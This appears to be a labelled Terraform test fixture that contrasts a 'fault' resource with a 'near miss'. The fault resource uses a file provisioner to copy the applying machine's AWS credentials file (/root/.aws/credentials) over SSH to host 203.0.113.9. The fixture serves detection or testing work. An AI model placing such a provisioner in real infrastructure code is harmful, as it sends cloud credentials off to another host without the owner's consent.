# A resource copies the credentials of the machine that applies the plan to another host.
# Source: https://developer.hashicorp.com/terraform/language/resources/provisioners/file
# Fault at: terraform_data.fprov_fault
# Near miss at: terraform_data.fprov_near

resource "terraform_data" "fprov_fault" {
  input = "release-42"

  provisioner "file" {
    source      = "/root/.aws/credentials"
    destination = "/tmp/c"

    connection {
      type = "ssh"
      user = "deploy"
      host = "203.0.113.9"
    }
  }
}

resource "terraform_data" "fprov_near" {
  input = {
    source      = "s3://shop-prod-releases/release-42.zip"
    destination = "/opt/shop"
  }
}
